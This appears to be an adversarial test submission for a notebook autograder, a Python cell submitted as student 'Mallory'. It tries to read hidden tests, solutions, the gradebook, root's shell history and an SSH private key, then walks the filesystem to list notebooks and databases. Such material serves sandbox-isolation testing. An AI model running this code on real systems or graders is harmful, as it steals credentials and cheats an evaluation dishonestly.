# %% identity
# Attack: look for the instructor's material (hidden tests, solutions, the gradebook) and print it.
STUDENT_NAME = "Mallory"
STUDENT_EMAIL = "mallory@example.org"
import os

for path in ["{COURSE}/source/01_setup/01_setup.ipynb", "{COURSE}/nbs/01_setup.ipynb",
             "{COURSE}/gradebook.db", "{COURSE}/tinytorch/setup.py", "../../source/01_setup/01_setup.ipynb",
             "/root/.bash_history", os.path.expanduser("~/.ssh/id_rsa")]:
    try:
        with open(path, "rb") as f:
            print("LEAK:", path, f.read(200))
    except OSError:
        pass
for top in ("/", "/home", "/tmp", "/work"):
    for folder, dirs, files in os.walk(top):
        if folder.startswith((os.getcwd(), "/grader/submission")):
            continue  # the student's own notebook
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev")]
        for name in files:
            if name.endswith((".ipynb", ".db")) and "site-packages" not in folder:
                print("LEAK:", os.path.join(folder, name))
